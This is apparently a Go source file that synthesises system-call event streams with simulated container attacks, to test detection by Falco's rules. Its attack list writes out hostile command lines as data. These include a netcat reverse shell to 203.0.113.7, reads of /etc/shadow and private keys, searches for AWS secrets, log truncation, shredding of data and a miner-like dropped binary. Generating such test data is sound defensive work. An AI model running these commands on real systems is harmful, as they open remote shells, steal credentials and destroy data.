package synth

// startsPerAttack is how many programs start for one that is an attack.
const startsPerAttack = 20

// rule names of Falco's stable rules.
const (
	ruleTraversal = "Directory traversal monitored file read"
	ruleSensitive = "Read sensitive file untrusted"
	ruleShell     = "Run shell untrusted"
	ruleTerminal  = "Terminal shell in container"
	ruleNetcat    = "Netcat Remote Code Execution in Container"
	ruleKeys      = "Search Private Keys or Passwords"
	ruleLogs      = "Clear Log Activities"
	ruleBulk      = "Remove Bulk Data from Disk"
	ruleSymlink   = "Create Symlink Over Sensitive Files"
	ruleHardlink  = "Create Hardlink Over Sensitive Files"
	rulePacket    = "Packet socket created in container"
	ruleRedirect  = "Redirect STDOUT/STDIN to Network Connection in Container"
	ruleDebugfs   = "Debugfs Launched in Privileged Container"
	rulePtrace    = "PTRACE attached to process"
	ruleAWS       = "Find AWS Credentials"
	ruleShm       = "Execution from /dev/shm"
	ruleDropped   = "Drop and execute new binary in container"
	ruleFileless  = "Fileless execution via memfd_create"
	exeUpperLayer = 2
	exeFromMemfd  = 4
	terminal      = 34816
)

// attack is one kind of attack: the program that starts, and what follows.
type attack struct {
	p          *program
	change     func(*start)
	follow     func(*stream, *turn)
	underShim  bool
	privileged bool
	// below is the comm of the parent, if it matters.
	below string
}

// firing is a start that rules find.
func firing(rules ...string) func(*start) { return func(st *start) { st.rules = rules } }

func opens(path string, flags uint32, rule string) func(*stream, *turn) {
	return func(s *stream, u *turn) {
		var fd int64
		u.add(s.openEntry(u.who, path, flags), s.openExit(u.who, path, flags, &fd, false, rule))
		s.close(u, &fd)
	}
}

// attacks come one after the other.
var attacks = []attack{
	{
		p: &program{comm: "bash", exe: "bash", path: "/usr/bin/bash", args: []string{"-il"}}, underShim: true,
		change: func(st *start) { st.tty, st.rules = terminal, []string{ruleTerminal} },
	},
	{p: &program{comm: "head", exe: "head", path: "/usr/bin/head", args: []string{"-1", "/etc/shadow"}}, follow: opens("/etc/shadow", openRead, ruleSensitive)},
	{p: &program{comm: "php-fpm", exe: "php-fpm", path: "/usr/sbin/php-fpm"}, follow: opens("/var/www/../../etc/passwd", openRead, ruleTraversal)},
	{p: &program{comm: "nc", exe: "nc", path: "/usr/bin/nc", args: []string{"203.0.113.7", "4444", "-e", "/bin/sh"}}, change: firing(ruleNetcat), follow: reverse},
	{p: &program{comm: "find", exe: "find", path: "/usr/bin/find", args: []string{"/", "-name", "id_rsa"}}, change: firing(ruleKeys)},
	{p: &program{comm: "truncate", exe: "truncate", path: "/usr/bin/truncate", args: []string{"-s0", "/var/log/auth.log"}}, follow: opens("/var/log/auth.log", openWrite|openTrunc, ruleLogs)},
	{p: &program{comm: "shred", exe: "shred", path: "/usr/bin/shred", args: []string{"-u", "/data"}}, change: firing(ruleBulk)},
	{p: &program{comm: "ln", exe: "ln", path: "/usr/bin/ln", args: []string{"-s", "/etc/shadow", "/tmp/s"}}, follow: links},
	{p: &program{comm: "tcpdump", exe: "tcpdump", path: "/usr/bin/tcpdump", args: []string{"-i", "eth0"}}, follow: sniffs},
	{p: &program{comm: "gdb", exe: "gdb", path: "/usr/bin/gdb", args: []string{"-p", "1"}}, follow: func(s *stream, u *turn) { u.add(s.ptrace(u.who, ptraceAttach, rulePtrace)...) }},
	{p: &program{comm: "grep", exe: "grep", path: "/usr/bin/grep", args: []string{"-r", "aws_secret_access_key", "/"}}, change: firing(ruleAWS)},
	{p: &program{comm: "x", exe: "/dev/shm/x", path: "/dev/shm/x"}, change: firing(ruleShm)},
	{
		p:      &program{comm: "kworkerd", exe: "/tmp/kworkerd", path: "/tmp/kworkerd", args: []string{"-o", "pool.example.com:3333"}},
		change: func(st *start) { st.flags, st.rules = exeUpperLayer, []string{ruleDropped} },
	},
	{
		p:      &program{comm: "3", exe: "/proc/self/fd/3", path: "/memfd:x (deleted)"},
		change: func(st *start) { st.flags, st.rules = exeFromMemfd, []string{ruleFileless} },
	},
	{p: &program{comm: "debugfs", exe: "debugfs", path: "/usr/sbin/debugfs", args: []string{"/dev/sda1"}}, change: firing(ruleDebugfs), privileged: true},
	{p: &program{comm: "sh", exe: "sh", path: "/bin/dash", args: []string{"-c", "id; uname -a"}}, change: firing(ruleShell), below: "nginx"},
}

// reverse puts a connection to somebody else in the place of the standard streams.
func reverse(s *stream, u *turn) {
	var fd int64
	u.add(s.socket(u.who, &fd, inet, streaming, "")...)
	u.add(s.connect(u.who, &fd, [4]byte{203, 0, 113, 7}, 4444)...)
	u.add(s.dup(u.who, &fd, 0, ruleRedirect), s.dup(u.who, &fd, 1, ruleRedirect))
}

func links(s *stream, u *turn) {
	u.add(s.symlink(u.who, "/etc/shadow", "/tmp/s", ruleSymlink)...)
	u.add(s.link(u.who, "/etc/shadow", "/tmp/h", ruleHardlink)...)
}

func sniffs(s *stream, u *turn) {
	var fd int64
	u.add(s.socket(u.who, &fd, packet, rawSocket, rulePacket)...)
	s.close(u, &fd)
}

// attack lets the next kind happen.
func (s *stream) attack(u *turn) {
	a := &attacks[s.attacks%len(attacks)]
	s.attacks++
	c := s.victim(a)
	if c == nil {
		s.file(u, s.path(u.who)) // the node is too small to have one
		return
	}
	parent := *u
	parent.who = c.main
	if a.underShim {
		parent.who = c.shim
	}
	child := s.spawnIn(&parent, a.p, c, a.change)
	parent.who = child
	if a.follow != nil {
		a.follow(s, &parent)
	}
	parent.add(s.exit(child))
	u.steps = parent.steps
}

// victim is a container that the attack is possible in. Its first process may well
// run on another processor: a parent does nothing but start the child.
func (s *stream) victim(a *attack) *container {
	from := s.rand.IntN(len(s.containers))
	for i := range s.containers {
		c := s.containers[(from+i)%len(s.containers)]
		ok := a.below != "" && c.p.comm == a.below || a.below == "" && c.p.starts
		if a.privileged {
			ok = c.privileged
		}
		if ok {
			return c
		}
	}
	return nil
}
